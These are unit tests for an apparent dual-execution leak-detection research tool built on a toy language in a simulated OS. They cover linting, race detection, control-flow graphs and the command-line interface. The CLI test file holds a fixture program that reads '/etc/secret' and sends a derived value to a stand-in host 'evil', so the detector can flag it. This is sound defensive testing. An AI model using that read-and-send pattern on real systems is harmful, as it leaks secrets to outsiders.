        """
    )
    diagnostics = lint_module(module)
    unused = [d for d in diagnostics if d.code == "unused-write"]
    assert len(unused) == 1
    finding = unused[0]
    assert finding.severity == "warn"
    assert finding.function == "main"
    assert finding.subject == "x"
    assert finding.key() == "unused-write:main:x"
    # The same store must not double-report as a dead-store note.
    assert not any(
        d.code == "dead-store" and d.subject == "x" for d in diagnostics
    )


def test_single_assignment_store_stays_a_note():
    from repro.analysis.lint import lint_module

    # `tmp` is assigned once and read nowhere live — the quieter
    # dead-store/never-read family, not the warn-level unused-write.
    module = compile_source(
        """
        fn main() {
          var tmp = 3 * 3;
          print(1);
        }
        """
    )
    diagnostics = lint_module(module)
    assert not any(d.code == "unused-write" for d in diagnostics)
    assert any(
        d.code in ("dead-store", "never-read-var") and d.subject == "tmp"
        for d in diagnostics
    )
