"""Unit tests for the syscall classification table and signatures."""

import pytest

from repro.lang.intrinsics import SYSCALL_BUILTINS, syscall_category
from repro.vos import syscalls
from repro.vos.kernel import Kernel
from repro.vos.world import World


def test_classification_is_total():
    # validate_coverage() runs at import; re-run explicitly for clarity.
    syscalls.validate_coverage()


def test_nondet_inputs_are_inputs_or_nondet_category():
    for name in syscalls.NONDET_INPUT:
        assert name in SYSCALL_BUILTINS


def test_categories():
    assert syscall_category("send") == "net-out"
    assert syscall_category("rand") == "nondet"
    assert syscall_category("malloc") == "lib"


def test_outputs_and_inputs_disjoint():
    assert not (syscalls.OUTPUT_SYSCALLS & syscalls.INPUT_SYSCALLS)


def test_thread_syscalls_always_local():
    assert syscalls.THREAD_SYSCALLS <= (
        syscalls.ALWAYS_INDEPENDENT | syscalls.THREAD_SYSCALLS
    )


def make_kernel():
    world = World(seed=1)
    world.fs.add_file("/f", "content")
    world.network.register("h", 1, lambda req: "ok")
    return Kernel(world)


def test_signature_replaces_fd_with_resource():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/f", "r"))
    assert kernel.signature_of("read", (fd, 4)) == ("read", "file:/f", 4)
    assert kernel.signature_of("close", (fd,)) == ("close", "file:/f")


def test_signatures_equal_across_kernels_with_different_fds():
    a = make_kernel()
    b = make_kernel()
    # b burns an fd so numbering diverges.
    b.execute("socket", ())
    fd_a = a.execute("open", ("/f", "r"))
    fd_b = b.execute("open", ("/f", "r"))
    assert fd_a != fd_b
    assert a.signature_of("read", (fd_a, 8)) == b.signature_of("read", (fd_b, 8))


def test_signature_for_path_syscalls_keeps_args():
    kernel = make_kernel()
    assert kernel.signature_of("open", ("/f", "r")) == ("open", "/f", "r")
    assert kernel.signature_of("print", ("x",)) == ("print", "x")


def test_connection_signature():
    kernel = make_kernel()
    sock = kernel.execute("socket", ())
    kernel.execute("connect", (sock, "h", 1))
    assert kernel.signature_of("send", (sock, "data")) == ("send", "conn:h:1", "data")
