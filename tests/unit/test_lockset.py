"""Unit tests for the Eraser-style lockset race detector."""

from repro.analysis.lockset import analyze_locksets
from repro.ir import compile_source


def locksets(source):
    return analyze_locksets(compile_source(source))


UNLOCKED = """
var counter = 0;
fn worker(arg) {
  counter = counter + 1;
  return 0;
}
fn main() {
  var t1 = thread_spawn(worker, 0);
  var t2 = thread_spawn(worker, 0);
  thread_join(t1);
  thread_join(t2);
  print(counter);
}
"""


def test_unlocked_concurrent_writes_race():
    report = locksets(UNLOCKED)
    assert report.has_threads
    assert report.thread_entries == {"worker": 2}
    assert "counter" in report.racy_globals
    assert any(race.global_name == "counter" for race in report.races)


def test_reads_after_join_do_not_race():
    # main's print(counter) happens after both joins: the spawner
    # heuristic must not pair it against the workers' writes.
    report = locksets(UNLOCKED)
    for race in report.races:
        assert "main" not in race.first.where()
        assert "main" not in race.second.where()


LOCKED = """
var counter = 0;
var lock = 0;
fn worker(arg) {
  mutex_lock(lock);
  counter = counter + 1;
  mutex_unlock(lock);
  return 0;
}
fn main() {
  lock = mutex_create();
  var t1 = thread_spawn(worker, 0);
  var t2 = thread_spawn(worker, 0);
  thread_join(t1);
  thread_join(t2);
  print(counter);
}
"""


def test_consistently_locked_accesses_do_not_race():
    report = locksets(LOCKED)
    assert report.races == []
    assert "counter" not in report.racy_globals
    # ...but the accesses still conflict concurrently: lock-acquisition
    # order can diverge, so the global is shared.
    assert "counter" in report.shared_globals


ENTRY_LOCKSET = """
var shared = 0;
var lock = 0;
fn bump() {
  shared = shared + 1;
  return 0;
}
fn worker(arg) {
  mutex_lock(lock);
  bump();
  mutex_unlock(lock);
  return 0;
}
fn main() {
  lock = mutex_create();
  var t1 = thread_spawn(worker, 0);
  var t2 = thread_spawn(worker, 0);
  mutex_lock(lock);
  bump();
  mutex_unlock(lock);
  thread_join(t1);
  thread_join(t2);
}
"""


def test_entry_locksets_propagate_through_calls():
    # Every call site of bump() holds the lock, so bump's accesses to
    # the shared global inherit it and no race is reported.
    report = locksets(ENTRY_LOCKSET)
    assert report.races == []
    assert "shared" not in report.racy_globals
    assert "shared" in report.shared_globals


PARTIAL = """
var shared = 0;
var lock = 0;
fn worker(arg) {
  mutex_lock(lock);
  shared = shared + 1;
  mutex_unlock(lock);
  shared = shared + 1;
  return 0;
}
fn main() {
  lock = mutex_create();
  var t1 = thread_spawn(worker, 0);
  var t2 = thread_spawn(worker, 0);
  thread_join(t1);
  thread_join(t2);
}
"""


def test_partially_locked_accesses_race():
    report = locksets(PARTIAL)
    assert "shared" in report.racy_globals


def test_unthreaded_program_has_no_races():
    report = locksets(
        """
        var g = 0;
        fn main() { g = g + 1; print(g); }
        """
    )
    assert not report.has_threads
    assert report.races == []
    assert report.racy_globals == frozenset()


INDIRECT_SPAWN = """
var hits = 0;
fn handler(arg) {
  hits = hits + 1;
  return 0;
}
fn main() {
  var target = handler;
  var t1 = thread_spawn(target, 0);
  var t2 = thread_spawn(target, 0);
  thread_join(t1);
  thread_join(t2);
}
"""


def test_indirect_spawn_targets_resolved():
    report = locksets(INDIRECT_SPAWN)
    assert "handler" in report.thread_entries
    assert "hits" in report.racy_globals
