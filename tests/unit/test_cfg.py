"""Unit tests for CFG analyses: graph, dominators, loops, call graph."""

import pytest

from repro.cfg.callgraph import CallGraph
from repro.cfg.dominators import (
    compute_dominators,
    compute_postdominators,
    dominates,
    immediate_dominators,
    immediate_postdominators,
    immediate_postdominators_of,
    postdominates,
    reversed_digraph,
)
from repro.cfg.graph import Digraph, function_digraph
from repro.cfg.loops import find_back_edges, find_loops, loops_in_nesting_order
from repro.errors import InstrumentationError
from repro.ir import compile_source


def diamond():
    """0 -> 1 -> 3, 0 -> 2 -> 3."""
    graph = Digraph()
    graph.add_edge(0, 1)
    graph.add_edge(0, 2)
    graph.add_edge(1, 3)
    graph.add_edge(2, 3)
    return graph


def test_digraph_edges_deduplicated():
    graph = Digraph()
    graph.add_edge(0, 1)
    graph.add_edge(0, 1)
    assert graph.edges() == [(0, 1)]


def test_digraph_remove_edge():
    graph = diamond()
    graph.remove_edge(0, 1)
    assert not graph.has_edge(0, 1)
    assert 0 not in graph.preds(1)


def test_reachable_from():
    graph = diamond()
    graph.add_node(9)
    assert graph.reachable_from(0) == {0, 1, 2, 3}


def test_topological_order_of_dag():
    order = diamond().topological_order()
    assert order.index(0) < order.index(1) < order.index(3)
    assert order.index(0) < order.index(2) < order.index(3)


def test_topological_order_rejects_cycle():
    graph = Digraph()
    graph.add_edge(0, 1)
    graph.add_edge(1, 0)
    with pytest.raises(InstrumentationError):
        graph.topological_order()


def test_dominators_diamond():
    doms = compute_dominators(diamond(), 0)
    assert doms[3] == {0, 3}
    assert doms[1] == {0, 1}
    assert dominates(doms, 0, 3)
    assert not dominates(doms, 1, 3)


def test_immediate_dominators_diamond():
    idom = immediate_dominators(diamond(), 0)
    assert idom[1] == 0
    assert idom[2] == 0
    assert idom[3] == 0


def test_dominators_linear_chain():
    graph = Digraph()
    graph.add_edge(0, 1)
    graph.add_edge(1, 2)
    doms = compute_dominators(graph, 0)
    assert doms[2] == {0, 1, 2}


def test_dominators_unreachable_block_empty_set():
    graph = diamond()
    graph.add_edge(8, 9)  # island, never reached from 0
    doms = compute_dominators(graph, 0)
    assert doms[8] == set() and doms[9] == set()
    assert not dominates(doms, 0, 9)
    # Reachable nodes are unaffected by the island.
    assert doms[3] == {0, 3}


def test_reversed_digraph_flips_every_edge():
    reverse = reversed_digraph(diamond())
    assert sorted(reverse.edges()) == [(1, 0), (2, 0), (3, 1), (3, 2)]


def test_postdominators_diamond():
    pdoms = compute_postdominators(diamond(), 3)
    assert pdoms[0] == {0, 3}
    assert pdoms[1] == {1, 3}
    assert postdominates(pdoms, 3, 0)
    assert not postdominates(pdoms, 1, 0)
    ipdom = immediate_postdominators_of(diamond(), 3)
    assert ipdom[0] == 3 and ipdom[1] == 3 and ipdom[2] == 3


def test_postdominators_of_infinite_loop_body_empty():
    # 0 -> 1 <-> 2 with exit 3 reached only from 0: the loop body has
    # no path to the exit, so its postdominator sets are empty.
    graph = Digraph()
    graph.add_edge(0, 1)
    graph.add_edge(1, 2)
    graph.add_edge(2, 1)
    graph.add_edge(0, 3)
    pdoms = compute_postdominators(graph, 3)
    assert pdoms[1] == set() and pdoms[2] == set()
    assert pdoms[0] == {0, 3}


def test_function_ipostdom_joins_branches():
    source = """
    fn main() {
      var x = 1;
      if (x > 0) { x = 2; } else { x = 3; }
      print(x);
    }
    """
    main = compile_source(source).function("main")
    ipdom = immediate_postdominators(main)
    # Every non-exit instruction has an immediate postdominator, and
    # following the chain from the entry reaches the structural exit.
    assert set(ipdom) == set(range(len(main.instrs))) - {main.exit}
    node = main.entry
    seen = set()
    while node != main.exit:
        assert node not in seen
        seen.add(node)
        node = ipdom[node]


def test_function_ipostdom_multi_exit_returns():
    # Two return statements: both funnel into the unique structural
    # exit nop, so the branch's ipostdom is the exit itself.
    source = """
    fn main() {
      var x = 1;
      if (x > 0) { return; }
      print(x);
    }
    """
    main = compile_source(source).function("main")
    ipdom = immediate_postdominators(main)
    branch = next(
        index
        for index, instr in enumerate(main.instrs)
        if type(instr).__name__ == "CJump"
    )
    assert ipdom[branch] == main.exit


def test_dualex_indexing_reexports_promoted_helper():
    from repro.baselines.dualex import indexing

    assert indexing.immediate_postdominators is immediate_postdominators


def test_back_edge_detection_simple_loop():
    graph = Digraph()
    graph.add_edge(0, 1)
    graph.add_edge(1, 2)
    graph.add_edge(2, 1)  # back edge
    graph.add_edge(1, 3)
    assert find_back_edges(graph, 0) == [(2, 1)]


def test_loop_body_and_exits():
    graph = Digraph()
    graph.add_edge(0, 1)
    graph.add_edge(1, 2)
    graph.add_edge(2, 1)
    graph.add_edge(1, 3)
    loops = find_loops(graph, 0)
    loop = loops[1]
    assert loop.body == {1, 2}
    assert loop.exit_edges == [(1, 3)]


def test_nested_loops_detected():
    source = """
    fn main() {
      var i = 0;
      while (i < 3) {
        var j = 0;
        while (j < 3) { j = j + 1; }
        i = i + 1;
      }
    }
    """
    main = compile_source(source).function("main")
    graph = function_digraph(main)
    loops = find_loops(graph, main.entry)
    assert len(loops) == 2
    ordered = loops_in_nesting_order(loops)
    inner, outer = ordered[0], ordered[1]
    assert inner.body < outer.body
    assert inner.head in outer.inner_heads or outer.inner_heads == [inner.head]


def test_loop_with_break_has_two_exit_edges():
    source = """
    fn main() {
      var i = 0;
      while (i < 10) {
        if (i == 5) { break; }
        i = i + 1;
      }
    }
    """
    main = compile_source(source).function("main")
    graph = function_digraph(main)
    loops = find_loops(graph, main.entry)
    loop = next(iter(loops.values()))
    assert len(loop.exit_edges) == 2


def test_callgraph_direct_edges():
    source = """
    fn a() { b(); }
    fn b() { }
    fn main() { a(); }
    """
    graph = CallGraph(compile_source(source))
    assert "b" in graph.callees["a"]
    assert "a" in graph.callees["main"]
    assert graph.callers["b"] == {"a"}


def test_callgraph_reverse_topological_order():
    source = """
    fn a() { b(); }
    fn b() { c(); }
    fn c() { }
    fn main() { a(); }
    """
    graph = CallGraph(compile_source(source))
    order = graph.reverse_topological_order()
    assert order.index("c") < order.index("b") < order.index("a") < order.index("main")


def test_self_recursion_detected():
    source = "fn f(n) { if (n > 0) { f(n - 1); } return 0; } fn main() { f(2); }"
    graph = CallGraph(compile_source(source))
    assert graph.recursive_functions == {"f"}
    assert graph.in_same_cycle("f", "f")


def test_mutual_recursion_detected():
    source = """
    fn even(n) { if (n == 0) { return 1; } return odd(n - 1); }
    fn odd(n) { if (n == 0) { return 0; } return even(n - 1); }
    fn main() { even(4); }
    """
    graph = CallGraph(compile_source(source))
    assert graph.recursive_functions == {"even", "odd"}
    assert graph.in_same_cycle("even", "odd")
    assert not graph.in_same_cycle("main", "even")


def test_indirect_sites_recorded():
    source = "fn f() { } fn main() { var h = f; h(); }"
    graph = CallGraph(compile_source(source))
    assert len(graph.indirect_sites["main"]) == 1


def test_non_recursive_program_has_empty_recursive_set():
    source = "fn f() { } fn main() { f(); }"
    graph = CallGraph(compile_source(source))
    assert graph.recursive_functions == set()
