"""A single factory serving many runs never leaks state across them.

The service keeps one :class:`EngineFactory` per (program, input spec)
and stamps out engines per request.  These tests pin the contract that
makes that safe: sequential and concurrent runs from one factory yield
verdicts byte-identical to freshly constructed engines, degradation
in one run never appears in the next, and no watchdog or worker
threads outlive their runs.
"""

import json
import threading
from concurrent.futures import ThreadPoolExecutor

from repro.core import EngineFactory, FaultConfig, RunBudget, run_dual
from repro.core.supervisor import (
    DEFAULT_DEADLINE,
    DEFAULT_MAX_INSTRUCTIONS,
    INSTRUCTIONS_PER_UNIT,
)
from repro.serve.api import verdict_payload
from repro.workloads import get_workload


def _canonical(result) -> str:
    return json.dumps(verdict_payload(result), sort_keys=True)


def _fresh_verdict(name="gzip", seed=1, **kwargs) -> str:
    workload = get_workload(name)
    return _canonical(
        run_dual(
            workload.instrumented,
            workload.build_world(seed),
            workload.leak_variant(),
            **kwargs,
        )
    )


# -- RunBudget -----------------------------------------------------------------


def test_budget_defaults():
    budget = RunBudget()
    assert budget.watchdog_deadline == DEFAULT_DEADLINE
    assert budget.max_instructions == DEFAULT_MAX_INSTRUCTIONS


def test_budget_from_deadline_scales_both_bounds():
    budget = RunBudget.from_deadline(1000.0)
    assert budget.watchdog_deadline == 1000.0
    assert budget.max_instructions == 1000 * INSTRUCTIONS_PER_UNIT
    kwargs = budget.engine_kwargs()
    assert set(kwargs) == {"watchdog_deadline", "max_instructions"}


def test_budget_clamps_to_minimums():
    budget = RunBudget.from_deadline(0.001)
    assert budget.watchdog_deadline >= RunBudget.MIN_DEADLINE
    assert budget.max_instructions >= RunBudget.MIN_INSTRUCTIONS


def test_budget_never_exceeds_default_instruction_cap():
    budget = RunBudget.from_deadline(10.0**9)
    assert budget.max_instructions == DEFAULT_MAX_INSTRUCTIONS


# -- sequential reuse ----------------------------------------------------------


def test_sequential_runs_match_fresh_engines():
    workload = get_workload("gzip")
    factory = EngineFactory.for_workload(workload)
    fresh = _fresh_verdict("gzip")
    for _ in range(5):
        assert _canonical(factory.run(workload.leak_variant())) == fresh
    assert factory.runs == 5


def test_degradation_does_not_leak_between_runs():
    workload = get_workload("gzip")
    factory = EngineFactory.for_workload(workload)
    # A budget-starved run degrades to partial...
    starved = factory.run(workload.leak_variant(), max_instructions=50)
    assert starved.degradation.verdict_confidence == "partial"
    assert starved.degradation.budget_exhausted
    # ...and the very next run from the same factory is pristine.
    clean = factory.run(workload.leak_variant())
    assert clean.degradation.verdict_confidence == "full"
    assert not clean.degradation.budget_exhausted
    assert not clean.report.crashes
    assert _canonical(clean) == _fresh_verdict("gzip")


def test_faulted_run_does_not_contaminate_the_next():
    workload = get_workload("gzip")
    factory = EngineFactory.for_workload(workload)
    faulted = factory.run(
        workload.leak_variant(), faults=FaultConfig(seed=7, rate=0.2)
    )
    assert faulted.degradation.faults_injected
    clean = factory.run(workload.leak_variant())
    assert not clean.degradation.faults_injected
    assert _canonical(clean) == _fresh_verdict("gzip")


def test_base_world_is_never_mutated_by_runs():
    workload = get_workload("gzip")
    factory = EngineFactory.for_workload(workload)
    # The first clone may compact the base overlay (copy-on-write
    # re-parenting); that is representation, not content.  After the
    # warmup the snapshot must be bit-stable across arbitrary runs.
    factory.run(workload.leak_variant())
    before = factory.base_world.snapshot()
    factory.run(workload.leak_variant())
    factory.run(workload.leak_variant(), faults=FaultConfig(seed=3, rate=0.3))
    factory.run(workload.leak_variant(), max_instructions=50)
    assert factory.base_world.snapshot() == before


# -- concurrent reuse ----------------------------------------------------------


def test_concurrent_runs_from_one_factory_are_identical():
    workload = get_workload("gzip")
    factory = EngineFactory.for_workload(workload)
    fresh = _fresh_verdict("gzip")
    with ThreadPoolExecutor(max_workers=4) as pool:
        verdicts = list(
            pool.map(
                lambda _: _canonical(factory.run(workload.leak_variant())),
                range(8),
            )
        )
    assert all(verdict == fresh for verdict in verdicts)


def test_no_threads_leak_after_many_runs():
    workload = get_workload("tnftp")
    factory = EngineFactory.for_workload(workload)
    before = set(threading.enumerate())
    for _ in range(3):
        factory.run(workload.leak_variant())
    factory.run(workload.leak_variant(), max_instructions=50)  # degraded run
    after = set(threading.enumerate())
    assert after == before


def test_service_workers_exit_after_drain():
    import io

    from repro.serve import LdxService, ServeConfig

    before = set(threading.enumerate())
    service = LdxService(
        ServeConfig(workers=3, log_stream=io.StringIO())
    ).start()
    for index in range(4):
        response = service.submit_and_wait(
            {"id": f"r{index}", "workload": "tnftp", "variant": "leak"},
            timeout=60,
        )
        assert response["status"] == "ok"
    assert service.drain(timeout=60)
    after = set(threading.enumerate())
    assert after == before
