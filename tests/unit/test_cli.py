"""Unit tests for the command-line interface."""

import pytest

from repro.cli import main

LEAKY = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 8));
  close(fd);
  var y = 0;
  if (x == 7) { y = 1; } else { y = 2; }
  var s = socket();
  connect(s, "evil", 80);
  send(s, y);
}
"""

CLEAN = """
fn main() {
  print("hello cli");
}
"""


@pytest.fixture
def leaky_program(tmp_path):
    path = tmp_path / "leaky.mc"
    path.write_text(LEAKY)
    return str(path)


@pytest.fixture
def clean_program(tmp_path):
    path = tmp_path / "clean.mc"
    path.write_text(CLEAN)
    return str(path)


def test_run_command(clean_program, capsys):
    code = main(["run", clean_program])
    assert code == 0
    assert "hello cli" in capsys.readouterr().out


def test_leak_command_detects(leaky_program, capsys):
    code = main(
        [
            "leak",
            leaky_program,
            "--secret-file",
            "/etc/secret",
            "--file",
            "/etc/secret=7",
            "--endpoint",
            "evil:80=",
        ]
    )
    assert code == 1  # causality detected
    assert "CAUSALITY" in capsys.readouterr().out


def test_leak_command_clean_exit(clean_program, capsys):
    code = main(
        ["leak", clean_program, "--secret-stdin", "--stdin", "ignored", "--sinks", "file"]
    )
    assert code == 0
    assert "no causality" in capsys.readouterr().out


def test_leak_requires_sources(clean_program):
    with pytest.raises(SystemExit):
        main(["leak", clean_program])


def test_bad_file_spec_rejected(clean_program):
    with pytest.raises(SystemExit):
        main(["run", clean_program, "--file", "no-equals-sign"])


def test_endpoint_without_colon_is_diagnosed(clean_program):
    """A raw ValueError traceback is a bug; bad specs exit cleanly."""
    with pytest.raises(SystemExit) as excinfo:
        main(["run", clean_program, "--endpoint", "hostonly=reply"])
    assert "HOST:PORT" in str(excinfo.value)


def test_endpoint_with_nonnumeric_port_is_diagnosed(clean_program):
    with pytest.raises(SystemExit) as excinfo:
        main(["run", clean_program, "--endpoint", "host:notaport=reply"])
    assert "notaport" in str(excinfo.value)


def test_endpoint_missing_equals_is_diagnosed(clean_program):
    with pytest.raises(SystemExit):
        main(["run", clean_program, "--endpoint", "host:80"])


FILE_READER = """
fn main() {
  var fd = open("/in", "r");
  print(read(fd, 100));
  close(fd);
}
"""


@pytest.fixture
def reader_program(tmp_path):
    path = tmp_path / "reader.mc"
    path.write_text(FILE_READER)
    return str(path)


def test_file_content_newline_escape(reader_program, capsys):
    code = main(["run", reader_program, "--file", r"/in=a\nb"])
    assert code == 0
    assert "a\nb" in capsys.readouterr().out


def test_file_content_escaped_backslash_n_stays_literal(reader_program, capsys):
    # \\n is an escaped backslash followed by 'n', NOT a newline.
    code = main(["run", reader_program, "--file", "/in=a\\\\nb"])
    assert code == 0
    out = capsys.readouterr().out
    assert "a\\nb" in out
    assert "a\nb" not in out


def test_file_content_tab_and_trailing_backslash(reader_program, capsys):
    code = main(["run", reader_program, "--file", "/in=a\\tb\\"])
    assert code == 0
    assert "a\tb\\" in capsys.readouterr().out


def test_eval_rejects_bad_job_counts():
    # Invalid job counts are rejected by the parser (SystemExit 2)
    # before any evaluation work starts.
    with pytest.raises(SystemExit):
        main(["eval", "--jobs", "0", "--table4-runs", "1"])
    with pytest.raises(SystemExit):
        main(["eval", "--jobs", "zero"])


# -- maintenance and service verbs ---------------------------------------------


def test_checkpoints_prune_reports_summary(tmp_path, capsys):
    from repro.checkpoint import CheckpointStore

    store = CheckpointStore(str(tmp_path))
    for index in range(5):
        store.save(f"entry{index:03d}", {"i": index})
    code = main(
        [
            "checkpoints",
            "prune",
            "--checkpoint-dir",
            str(tmp_path),
            "--max-entries",
            "2",
        ]
    )
    assert code == 0
    out = capsys.readouterr().out
    assert "removed 3" in out
    assert "kept 2" in out


def test_checkpoints_prune_missing_dir_is_ok(tmp_path, capsys):
    code = main(
        ["checkpoints", "prune", "--checkpoint-dir", str(tmp_path / "absent")]
    )
    assert code == 0
    assert "removed 0" in capsys.readouterr().out


def test_chaos_interrupt_prints_resume_hint(tmp_path, monkeypatch, capsys):
    import repro.eval.robustness as robustness

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(robustness, "run_chaos", interrupted)
    code = main(
        ["chaos", "--checkpoint-dir", str(tmp_path), "--workload", "gzip"]
    )
    assert code == 130
    err = capsys.readouterr().err
    assert "interrupted" in err
    assert "--resume" in err


def test_serve_chaos_smoke(capsys):
    code = main(
        [
            "serve-chaos",
            "--requests",
            "6",
            "--workers",
            "2",
            "--poison-every",
            "3",
            "--fault-rate",
            "0.0",
        ]
    )
    out = capsys.readouterr().out
    assert code == 0
    assert "all service invariants hold" in out
