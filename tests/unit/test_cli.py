"""Unit tests for the command-line interface."""

import pytest

from repro.cli import main

LEAKY = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 8));
  close(fd);
  var y = 0;
  if (x == 7) { y = 1; } else { y = 2; }
  var s = socket();
  connect(s, "evil", 80);
  send(s, y);
}
"""

CLEAN = """
fn main() {
  print("hello cli");
}
"""


@pytest.fixture
def leaky_program(tmp_path):
    path = tmp_path / "leaky.mc"
    path.write_text(LEAKY)
    return str(path)


@pytest.fixture
def clean_program(tmp_path):
    path = tmp_path / "clean.mc"
    path.write_text(CLEAN)
    return str(path)


def test_run_command(clean_program, capsys):
    code = main(["run", clean_program])
    assert code == 0
    assert "hello cli" in capsys.readouterr().out


def test_leak_command_detects(leaky_program, capsys):
    code = main(
        [
            "leak",
            leaky_program,
            "--secret-file",
            "/etc/secret",
            "--file",
            "/etc/secret=7",
            "--endpoint",
            "evil:80=",
        ]
    )
    assert code == 1  # causality detected
    assert "CAUSALITY" in capsys.readouterr().out


def test_leak_command_clean_exit(clean_program, capsys):
    code = main(
        ["leak", clean_program, "--secret-stdin", "--stdin", "ignored", "--sinks", "file"]
    )
    assert code == 0
    assert "no causality" in capsys.readouterr().out


def test_leak_requires_sources(clean_program):
    with pytest.raises(SystemExit):
        main(["leak", clean_program])


def test_bad_file_spec_rejected(clean_program):
    with pytest.raises(SystemExit):
        main(["run", clean_program, "--file", "no-equals-sign"])
