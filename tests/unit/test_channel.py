"""Unit tests for the master->slave outcome queue and counter order."""

from repro.core.channel import (
    OutcomeQueue,
    SyscallRecord,
    counter_geq,
    counter_less,
)


def record(counter, name="read", args=(1, 4), result="x"):
    return SyscallRecord(counter, name, args, result, None)


def test_counter_less_basics():
    assert counter_less((1,), (2,))
    assert not counter_less((2,), (1,))
    assert not counter_less((2,), (2,))
    assert counter_less((2,), (2, 1))  # prefix before extension
    assert counter_less((2, 9), (3,))


def test_counter_infinity():
    assert counter_less((5,), None)
    assert not counter_less(None, (5,))
    assert counter_geq(None, (5,))
    assert not counter_less(None, None)


def test_find_by_counter_and_name():
    queue = OutcomeQueue()
    queue.add(record((1,), "open"))
    queue.add(record((2,), "read"))
    assert queue.find((2,), "read") is not None
    assert queue.find((2,), "write") is None
    assert queue.find((3,), "read") is None


def test_consumed_records_not_found_again():
    queue = OutcomeQueue()
    queue.add(record((1,)))
    found = queue.find((1,), "read")
    found.consumed = True
    assert queue.find((1,), "read") is None


def test_duplicate_counters_served_in_order():
    queue = OutcomeQueue()
    first = record((1,), result="a")
    second = record((1,), result="b")
    queue.add(first)
    queue.add(second)
    assert queue.find((1,), "read").result == "a"
    first.consumed = True
    assert queue.find((1,), "read").result == "b"


def test_prune_iteration_drops_only_this_iterations_records():
    queue = OutcomeQueue()
    queue.add(record((2,), "open"))  # before the loop (<= reset)
    queue.add(record((5,), "read"))  # inside the iteration
    inside = record((6,), "close")
    inside.consumed = True
    queue.add(inside)
    dropped = queue.prune_iteration(barrier_counter=(8,), reset_to=3)
    assert [r.counter for r in dropped] == [(5,)]  # unconsumed only
    assert queue.find((2,), "open") is not None
    assert len(queue) == 1


def test_prune_iteration_covers_scoped_records():
    queue = OutcomeQueue()
    queue.add(record((5, 2), "read"))  # inside a scoped call this iteration
    queue.add(record((2, 9), "read"))  # scoped call before the loop
    dropped = queue.prune_iteration(barrier_counter=(8,), reset_to=3)
    assert [r.counter for r in dropped] == [(5, 2)]


def test_prune_passed():
    queue = OutcomeQueue()
    queue.add(record((1,), "open"))
    queue.add(record((4,), "read"))
    dropped = queue.prune_passed((3,))
    assert [r.counter for r in dropped] == [(1,)]
    assert len(queue) == 1


def test_earliest_publication_after():
    queue = OutcomeQueue()
    queue.add(SyscallRecord((2,), "a", (), None, None, published_at=10.0))
    queue.add(SyscallRecord((5,), "b", (), None, None, published_at=50.0))
    queue.add(SyscallRecord((7,), "c", (), None, None, published_at=30.0))
    assert queue.earliest_publication_after((3,)) == 30.0
    assert queue.earliest_publication_after((8,)) is None


def test_drain_unconsumed():
    queue = OutcomeQueue()
    consumed = record((1,))
    consumed.consumed = True
    queue.add(consumed)
    queue.add(record((2,)))
    remaining = queue.drain_unconsumed()
    assert [r.counter for r in remaining] == [(2,)]
    assert len(queue) == 0


def test_signature_default():
    rec = SyscallRecord((1,), "write", (1, "x"), 1, None)
    assert rec.signature == ("write", 1, "x")
