"""Unit tests for MiniC static checks."""

import pytest

from repro.errors import SemanticError
from repro.lang.parser import parse
from repro.lang.semantics import check_program


def check(source, require_main=True):
    return check_program(parse(source), require_main=require_main)


def test_minimal_valid_program():
    info = check("fn main() { }")
    assert info.function_arity == {"main": 0}


def test_missing_main_raises():
    with pytest.raises(SemanticError):
        check("fn other() { }")


def test_missing_main_allowed_when_relaxed():
    info = check("fn other() { }", require_main=False)
    assert "other" in info.function_arity


def test_main_with_params_raises():
    with pytest.raises(SemanticError):
        check("fn main(x) { }")


def test_duplicate_function_raises():
    with pytest.raises(SemanticError):
        check("fn f() { } fn f() { } fn main() { }")


def test_function_shadowing_intrinsic_raises():
    with pytest.raises(SemanticError):
        check("fn len() { } fn main() { }")


def test_duplicate_parameter_raises():
    with pytest.raises(SemanticError):
        check("fn f(a, a) { } fn main() { }")


def test_duplicate_global_raises():
    with pytest.raises(SemanticError):
        check("var g = 1; var g = 2; fn main() { }")


def test_global_shadowing_function_raises():
    with pytest.raises(SemanticError):
        check("fn f() { } var f = 1; fn main() { }")


def test_global_initializer_must_be_constant():
    with pytest.raises(SemanticError):
        check("var g = len([1]); fn main() { }")


def test_constant_global_arithmetic_ok():
    check("var g = 1 + 2 * 3; fn main() { }")


def test_undefined_variable_raises():
    with pytest.raises(SemanticError):
        check("fn main() { var x = y; }")


def test_assignment_to_undeclared_raises():
    with pytest.raises(SemanticError):
        check("fn main() { x = 1; }")


def test_assignment_to_function_raises():
    with pytest.raises(SemanticError):
        check("fn f() { } fn main() { f = 1; }")


def test_duplicate_local_raises():
    with pytest.raises(SemanticError):
        check("fn main() { var x = 1; var x = 2; }")


def test_local_shadowing_function_raises():
    with pytest.raises(SemanticError):
        check("fn f() { } fn main() { var f = 1; }")


def test_break_outside_loop_raises():
    with pytest.raises(SemanticError):
        check("fn main() { break; }")


def test_continue_outside_loop_raises():
    with pytest.raises(SemanticError):
        check("fn main() { continue; }")


def test_break_inside_loop_ok():
    check("fn main() { while (1) { break; } }")


def test_call_arity_checked():
    with pytest.raises(SemanticError):
        check("fn f(a) { } fn main() { f(); }")


def test_call_to_undefined_raises():
    with pytest.raises(SemanticError):
        check("fn main() { g(); }")


def test_indirect_call_through_variable_ok():
    check("fn f() { } fn main() { var h = f; h(); }")


def test_intrinsic_call_ok():
    check('fn main() { var n = len("abc"); }')


def test_globals_visible_in_functions():
    check("var g = 1; fn main() { g = g + 1; }")


def test_var_hoisting_use_before_decl_in_branches():
    # Function-level scoping: declaration anywhere in the body makes the
    # name known, mirroring the single locals dict at runtime.
    check("fn main() { if (1) { var x = 1; } else { var y = 2; } }")
