"""Unit tests for causality reports and dual results."""

from repro.core.report import (
    SINK_ARGS_DIFFER,
    SINK_MISSING_IN_SLAVE,
    SINK_ONLY_IN_SLAVE,
    CausalityReport,
    Detection,
)


def detection(kind):
    return Detection(kind, (3,), "send", ("a",), ("b",), "main")


def test_empty_report():
    report = CausalityReport()
    assert not report.causality_detected
    assert report.tainted_sinks == 0
    assert report.sequence_diffs == 0
    assert "no causality" in report.summary()


def test_detections_counted():
    report = CausalityReport()
    report.add(detection(SINK_ARGS_DIFFER))
    report.add(detection(SINK_MISSING_IN_SLAVE))
    assert report.causality_detected
    assert report.tainted_sinks == 2
    assert "CAUSALITY" in report.summary()


def test_sequence_diffs_counts_divergent_sinks_only():
